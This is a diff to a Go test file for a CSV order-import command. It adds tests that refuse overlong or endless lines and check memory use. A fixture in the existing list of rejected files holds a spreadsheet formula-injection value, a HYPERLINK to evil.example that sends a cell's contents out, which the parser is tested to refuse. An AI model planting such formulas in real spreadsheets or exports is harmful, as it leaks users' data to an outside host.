@@ -1,10 +1,14 @@
 package main
 
 import (
+	"bytes"
 	"context"
+	"io"
 	"os"
+	"os/exec"
 	"path/filepath"
 	"strings"
+	"syscall"
 	"testing"
 
 	"github.com/jackc/pgx/v5/pgxpool"
@@ -58,6 +62,10 @@ var badOrderFiles = []struct {
 	{"formula username", "username,total_price,applied_year_month\n\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",100,2025-02\n",
 		"line 2: username: starts with '=' (a spreadsheet formula)"},
 	{"formula month", "username,total_price,applied_year_month\nkim,100,@SUM(A1)\n", "line 2: applied_year_month: starts with '@' (a spreadsheet formula)"},
+	{"long line", "username,total_price,applied_year_month\n" + strings.Repeat("x", maxOrderLineBytes) + ",1,2025-02\n", "line 2: longer than 4096 bytes"},
+	{"long line after blank lines", "username,total_price,applied_year_month\r\n\r\na,1,2025-02\r\n" + strings.Repeat(" ", 5000), "line 4: longer than 4096 bytes"},
+	{"long quoted field", "username,total_price,applied_year_month\n\"" + strings.Repeat("a\n", 3000) + "\",1,2025-02\n", "line 2: longer than 4096 bytes"},
+	{"long header", strings.Repeat("u", 5000) + "\n", "line 1: longer than 4096 bytes"},
 }
 
 func TestParseOrderCSV_BadFiles(t *testing.T) {
@@ -68,7 +76,8 @@ func TestParseOrderCSV_BadFiles(t *testing.T) {
 	}
 }
 
-// Korean and emoji usernames are text like any other.
+// Korean and emoji usernames are text like any other, and the longest valid
+// username (100 four-byte characters, quoted) fits in a line.
 func TestParseOrderCSV_KoreanAndEmoji(t *testing.T) {
 	t.Parallel()
 	longest := strings.Repeat("\U0001F600", store.MaxUsernameLen)
@@ -78,6 +87,27 @@ func TestParseOrderCSV_KoreanAndEmoji(t *testing.T) {
 	require.NoError(t, err)
 	require.Equal(t, []string{"김철수", "홍길동 2세", "이영희\U0001F600", "\U0001F469\u200d\U0001F4BB", longest},
 		[]string{reqs[0].Username, reqs[1].Username, reqs[2].Username, reqs[3].Username, reqs[4].Username})
+}
+
+// endless is a file of one line that never ends, counting what is read of it.
+type endless struct{ read int64 }
+
+func (e *endless) Read(p []byte) (int, error) {
+	for i := range p {
+		p[i] = 'x'
+	}
+	e.read += int64(len(p))
+	return len(p), nil
+}
+
+// A file whose second line has no end is refused naming the line after
+// reading a few KiB of it, not the whole line.
+func TestParseOrderCSV_LineWithNoEnd(t *testing.T) {
+	t.Parallel()
+	body := &endless{}
+	_, _, err := parseOrderCSV(io.MultiReader(strings.NewReader("username,total_price,applied_year_month\n"), body))
+	require.EqualError(t, err, "line 2: longer than 4096 bytes")
+	require.Less(t, body.read, int64(64<<10), "read of the endless line")
 }
 
 // The real binary: every bad file, flag or duplicate exits 2 with one line
@@ -127,6 +157,31 @@ func TestOrdersCommand(t *testing.T) {
 		requireOneLine(stderr, c.want, strings.Join(c.args, " "))
 		requireNothing(strings.Join(c.args, " "))
 	}
+
+	// A 64 MiB line with no newline is refused naming it, and the process
+	// never holds it: its peak resident memory stays far below the line's size.
+	huge := filepath.Join(dir, "huge.csv")
+	f, err := os.Create(huge)
+	require.NoError(t, err)
+	_, err = f.WriteString("username,total_price,applied_year_month\n")
+	require.NoError(t, err)
+	chunk := bytes.Repeat([]byte("x"), 1<<20)
+	for range 64 {
+		_, err = f.Write(chunk)
+		require.NoError(t, err)
+	}
+	require.NoError(t, f.Close())
+	cmd := exec.Command(bin, "orders", "--file", huge)
+	cmd.Env = append(os.Environ(), env...)
+	var hugeErr bytes.Buffer
+	cmd.Stderr = &hugeErr
+	var exit *exec.ExitError
+	require.ErrorAs(t, cmd.Run(), &exit)
+	require.Equal(t, 2, exit.ExitCode())
+	requireOneLine(hugeErr.String(), "line 2: longer than 4096 bytes; nothing inserted", "64 MiB line")
+	requireNothing("64 MiB line")
+	peakKiB := cmd.ProcessState.SysUsage().(*syscall.Rusage).Maxrss // KiB on Linux
+	require.Less(t, peakKiB, int64(32<<10), "peak resident memory of enqueue (KiB) refusing a 64 MiB line")
 
 	good := write("good", "username,total_price,applied_year_month\ntester,10000,2025-02\nkim,500,2025-02\nlee,700,2025-03\n")
 	code, stdout, stderr := testbin.Run(t, bin, env, "orders", "--file", good)
